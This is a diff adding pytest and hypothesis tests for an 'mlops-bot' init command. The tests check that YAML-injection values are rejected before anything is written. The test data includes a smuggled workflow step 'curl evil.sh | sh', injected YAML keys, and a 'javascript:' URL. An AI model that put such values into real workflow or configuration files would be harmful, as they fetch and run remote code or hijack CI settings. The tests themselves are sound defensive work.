@@ -6,7 +6,15 @@ import json
 from pathlib import Path
 
 import pytest
+import yaml
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
+from bot.config import config_from_document
+from bot.scaffold.install import pinned_action
+from bot.scaffold.plan import TITLE_LIMIT, check_init_values, desired_files
+from bot.schemas import schema_problems
+from bot.yaml_source import parse_yaml
 from tests.helpers import BOT_TOKEN, run_cli
 from tests.test_workflows import actionlint, zizmor
 
@@ -129,3 +137,73 @@ def test_lock_file_records_what_init_wrote(github, empty_repo):
     init(github, empty_repo)
     lock = json.loads((empty_repo / ".github" / "mlops-init.lock").read_text())
     assert ".github/workflows/mlops-bot.yml" in lock and len(lock) >= 20
+
+
+# ---- values that would inject YAML -------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("option", "value"),
+    [
+        ("--action-version", "v1\n      - run: curl evil.sh | sh"),
+        ("--action-version", "v1\n"),
+        ("--action-version", 'v1" injected'),
+        ("--action-version", "v1 # and more"),
+        ("--action-version", "v1'"),
+        ("--action-ref", PIN + "\n"),
+        ("--repo", "acme/churn]\nsite: {title: x}"),
+        ("--repo", "acme/churn\n"),
+        ("--repo", "acme"),
+        ("--project-url", "https://github.com/orgs/acme/projects/3\nrepositories: [evil/repo]"),
+        ("--project-url", "https://github.com/orgs/acme/projects/3 # x"),
+        ("--project-url", "javascript:alert(1)"),
+        ("--title", "Handbook\nplugins: [evil]"),
+        ("--title", "x" * 121),
+        ("--title", "   "),
+    ],
+)
+def test_values_that_would_inject_yaml_are_refused_before_anything_is_written(github, empty_repo, option, value):
+    arguments = {
+        "--path": str(empty_repo),
+        "--repo": "acme/churn",
+        "--action-ref": PIN,
+        "--action-version": "v1.0.0",
+        "--project-url": "https://github.com/orgs/acme/projects/3",
+        option: value,
+    }
+    result = run_cli(
+        ["init", *[w for pair in arguments.items() for w in pair]], cwd=empty_repo, env=github.env(BOT_TOKEN)
+    )
+    assert result.code == 2 and option in result.stderr, result.stderr
+    assert len(result.stderr.strip().splitlines()) == 1
+    assert list(empty_repo.iterdir()) == [] and github.requests == []
+
+
+SAFE_TITLE = st.text(
+    alphabet=st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp")), min_size=1, max_size=TITLE_LIMIT
+).filter(lambda t: t.strip() and t.isprintable())
+
+
+@settings(max_examples=60, deadline=None)
+@given(title=SAFE_TITLE, board=st.integers(1, 10**9), view=st.sampled_from(["", "/views/2", "/views/1?layout=board"]))
+def test_accepted_values_land_in_the_yaml_as_plain_values(title, board, view):
+    """Whatever init accepts is read back exactly as given: quotes, colons, `#`, `{` and all."""
+    url = f"https://github.com/orgs/acme/projects/{board}{view}"
+    check_init_values(repository="acme/churn.ml", project_url=url, title=title)
+    files = desired_files(
+        config_from_document(parse_yaml("", "defaults")),
+        repository="acme/churn.ml",
+        project_url=url,
+        action=pinned_action(PIN, "v1.2.0-rc.1+build_7"),
+        title=title,
+    )
+    site_name = next(line for line in files["mkdocs.yml"].splitlines() if line.startswith("site_name:"))
+    assert yaml.safe_load(site_name) == {"site_name": title}  # the rest of mkdocs.yml has MkDocs' own tags
+    config = yaml.safe_load(files[".github/mlops.yml"])
+    assert config["project_url"] == url and config["repositories"] == ["acme/churn.ml"]
+    assert validate_config_text(files[".github/mlops.yml"]) == []
+    workflow = yaml.safe_load(files[".github/workflows/mlops-bot.yml"])
+    uses = [step["uses"] for job in workflow["jobs"].values() for step in job["steps"] if "mlops-bot@" in step["uses"]]
+    assert uses and set(uses) == {PIN}
+
+
+def validate_config_text(text: str) -> list:
+    return schema_problems(parse_yaml(text, ".github/mlops.yml"), "config")
